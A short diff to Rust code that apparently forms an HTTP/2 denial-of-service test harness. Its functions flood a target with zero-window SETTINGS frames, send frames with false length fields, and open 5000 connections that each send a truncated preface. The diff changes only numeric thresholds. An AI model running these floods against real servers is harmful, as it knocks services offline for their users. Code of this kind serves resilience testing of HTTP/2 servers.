@@ -201,7 +201,7 @@ fn settings_flood(target: &Target) -> Vec<TcpStream> {
     flood_all(target, &begin, |_| {
         many(500, || {
             [
-                settings(&[(INITIAL_WINDOW_SIZE, 0), (HEADER_TABLE_SIZE, 0)]),
+                settings(&[(INITIAL_WINDOW_SIZE, 1), (HEADER_TABLE_SIZE, 0)]),
                 settings(&[(INITIAL_WINDOW_SIZE, 0)]),
             ]
             .concat()
@@ -260,7 +260,7 @@ fn header_bomb(target: &Target) -> Vec<TcpStream> {
 /// Each message says that it is as long as one may be, and has a few bytes. Some say that they are longer.
 fn lying_length(target: &Target) -> Vec<TcpStream> {
     flood_all(target, &opening(&[]), |id| {
-        if *id > 1800 {
+        if *id > 1000 {
             return frame(PING, 0, 0, &[7; 8]);
         }
         many(100, || {
@@ -278,7 +278,7 @@ fn before_the_preface(target: &Target) -> Vec<TcpStream> {
     let open: Vec<_> = (0..5000)
         .map(|n| {
             let mut stream = connect_from(ATTACKER, &target.address).unwrap();
-            stream.write_all(&whole[..n % 34]).unwrap();
+            stream.write_all(&whole[..n % 33]).unwrap();
             stream
         })
         .collect();
